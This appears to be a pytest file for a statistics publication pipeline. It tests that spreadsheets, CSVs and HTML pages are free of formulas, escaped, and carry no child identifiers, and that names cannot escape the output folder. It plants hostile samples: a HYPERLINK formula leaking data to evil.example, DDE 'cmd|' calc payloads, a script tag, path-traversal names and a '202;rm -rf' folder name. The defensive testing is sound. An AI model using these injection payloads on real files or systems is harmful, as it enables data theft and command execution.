"""Guards on what reaches public files: no formulas, escaped HTML, aggregates only, and no
output path chosen by a name in the landing folder.

The first tests build a real candidate release (assets.publication.candidate.build_candidate) from the
publication test tables, after planting hostile text where text can travel into a
release: contextual note texts and details (generated from data, e.g. a rejected
return's message, which quotes what an LA sent) and the release configuration.
"""

from __future__ import annotations

import csv
import dataclasses
import importlib.util
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook
from publication_fixtures import small_inputs

from assets.publication.candidate import build_candidate
from assets.publication.privacy import PrivacyError

ROOT = Path(__file__).resolve().parents[1]
FORMULA_START = ("=", "+", "-", "@")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('note')</script>",
]


def _plant(inputs: dict) -> dict:
    """Replace the first notes' texts with hostile ones (one per hostile string)."""
    notes = inputs["notes"].copy()
    assert len(notes) >= len(HOSTILE), "need enough notes to plant every hostile text"
    for i, text in enumerate(HOSTILE):
        notes.loc[notes.index[i], "note_text"] = text
        notes.loc[notes.index[i], "detail"] = text
    inputs = dict(inputs, notes=notes)
    # Configuration text reaches the spreadsheet's cover sheet and every HTML page.
    inputs["release"] = dataclasses.replace(
        inputs["release"],
        contact_name="=1+1 <b>team</b>",
        title="+cmd|' /C calc'!A0 <i>Re-entry</i> to care",
        next_update="@SUM(1+1) November 2026",
    )
    return inputs


@pytest.fixture(scope="module")
def hostile_candidate(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("guards") / "candidate"
    build_candidate(folder, **_plant(small_inputs()))
    return folder


def _looks_like_formula(text: str) -> bool:
    # A bare negative number is data, not a formula.
    return text.startswith(FORMULA_START) and not re.fullmatch(r"-\d+(\.\d+)?", text)


def test_no_spreadsheet_cell_is_a_formula_or_starts_like_one(hostile_candidate):
    books = list(hostile_candidate.rglob("*.xlsx"))
    assert books, "the release has no spreadsheet"
    planted_seen = 0
    for book in books:
        wb = load_workbook(book)  # not data_only: formulas would show as data_type "f"
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{book.name}!{ws.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        assert not _looks_like_formula(cell.value), (
                            f"{book.name}!{ws.title}!{cell.coordinate}: {cell.value[:60]!r}"
                        )
                        planted_seen += any(m in cell.value for m in ("cmd|", "1+1", "HYPERLINK"))
    assert planted_seen, "the planted note texts never reached the spreadsheet; test is void"


def test_no_csv_text_field_starts_like_a_formula(hostile_candidate):
    files = list(hostile_candidate.rglob("*.csv"))
    assert files
    planted_seen = 0
    for path in files:
        with open(path, newline="", encoding="utf-8") as fh:
            for n, row in enumerate(csv.reader(fh), start=1):
                for value in row:
                    assert not _looks_like_formula(value), f"{path.name} line {n}: {value[:60]!r}"
                    planted_seen += "cmd|" in value or "HYPERLINK" in value
    assert planted_seen, "the planted note texts never reached a CSV; test is void"


def test_html_escapes_text_from_data_and_configuration(hostile_candidate):
    pages = list(hostile_candidate.rglob("*.html"))
    assert pages
    escaped_seen = 0
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert "<script>alert(" not in html, page.name
        assert "<b>team</b>" not in html and "<i>Re-entry</i>" not in html, page.name
        escaped_seen += "&lt;script&gt;alert(" in html or "&lt;i&gt;Re-entry" in html
    assert escaped_seen, "the planted texts never reached a page; test is void"


def test_every_html_template_is_autoescaped():
    from assets.publication.website import _env

    env = _env()
    names = [n for n in env.list_templates() if n.endswith((".html", ".j2"))]
    assert names
    assert all(env.autoescape(n) if callable(env.autoescape) else env.autoescape for n in names)


def test_a_child_identifier_in_any_public_text_stops_the_release(tmp_path):
    """Privacy scan is part of build_candidate: a UPN from the inputs smuggled into a note
    means no candidate folder at all (and no staging folder left behind)."""
    inputs = small_inputs()
    upn = sorted(inputs["private_identifiers"].upns)[0]
    notes = inputs["notes"].copy()
    notes.loc[notes.index[0], "detail"] = f"see child {upn}"
    folder = tmp_path / "candidate"
    with pytest.raises(PrivacyError):
        build_candidate(folder, **dict(inputs, notes=notes))
    assert not folder.exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".staging")]


def test_release_holds_no_identifier_from_the_inputs(hostile_candidate):
    """Independent of the release's own scan: grep every public file for every child ID
    (long enough to be distinctive), UPN and date of birth in dd/mm/yyyy."""
    inputs = small_inputs()
    folder = hostile_candidate
    ids = inputs["private_identifiers"]
    needles = sorted(ids.upns) + [d.strftime("%d/%m/%Y") for d in sorted(ids.dobs)]
    needles += sorted(c for c in ids.child_ids if len(c) >= 6)
    assert needles
    for path in folder.rglob("*"):
        if path.is_file() and path.suffix in {".csv", ".html", ".json", ".svg", ".txt"}:
            text = path.read_text(encoding="utf-8", errors="replace")
            hits = [n for n in needles if re.search(rf"(?<![\w]){re.escape(n)}(?![\w])", text)]
            assert not hits, f"{path.relative_to(folder)} contains {hits[:3]}"


# --- output paths ------------------------------------------------------------------------

_spec = importlib.util.spec_from_file_location(
    "make_corpus", ROOT / "tests" / "data" / "bad_inputs" / "make_corpus.py"
)
corpus = importlib.util.module_from_spec(_spec)
sys.modules.setdefault("make_corpus", corpus)
_spec.loader.exec_module(corpus)


def _snapshot(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


def _cli(args: list[str], cwd: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "DAGSTER_HOME": str(cwd / "dagster_home"), "PYTHONPATH": str(ROOT)}
    (cwd / "dagster_home").mkdir(exist_ok=True)
    return subprocess.run(
        [sys.executable, "-m", "pipelines.cli", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )


def test_release_name_with_path_characters_is_refused(tmp_path):
    """The release name becomes a folder name; '../x' or 'a/b' must never escape OUTPUT."""
    landing = corpus.build_clean(tmp_path / "landing")
    for name in ("../escaped", "a/b", "..", "/tmp/abs"):
        before = _snapshot(tmp_path)
        res = _cli(
            [
                "run",
                "--landing",
                str(landing),
                "--output",
                str(tmp_path / "out"),
                "--release",
                name,
            ],
            tmp_path,
        )
        assert res.returncode == 2, (name, res.returncode, res.stderr[-800:])
        created = _snapshot(tmp_path) - before
        assert all(p.startswith(("dagster_home", "out")) for p in created), created
        assert not (tmp_path / "escaped").exists()
        assert not (tmp_path / "out" / "publications").exists()


@pytest.mark.slow
def test_landing_folder_names_never_become_output_paths(tmp_path):
    """A full run over a landing folder with '..evil', '2 0 2', '202;rm -rf', an unknown LA
    code and a symlinked LA folder writes only under OUTPUT, and no output path contains
    any of those names."""
    root = tmp_path / "case"
    landing = corpus.build_case(corpus.CASES_BY_ID["path_like_folder_names"], root)
    corpus.CASES_BY_ID["unknown_la_folder"].build(landing, landing / "2024" / "202")
    before = _snapshot(tmp_path)
    out = tmp_path / "out"
    res = _cli(["run", "--landing", str(landing), "--output", str(out), "--release", "g"], tmp_path)
    created = _snapshot(tmp_path) - before
    assert all(p.startswith(("dagster_home", "out")) for p in created), sorted(created)[:20]
    for p in created:
        assert not any(bad in p for bad in ("evil", "2 0 2", "rm -rf", "/999")), p
    assert res.returncode in (0, 1), res.stderr[-2000:]
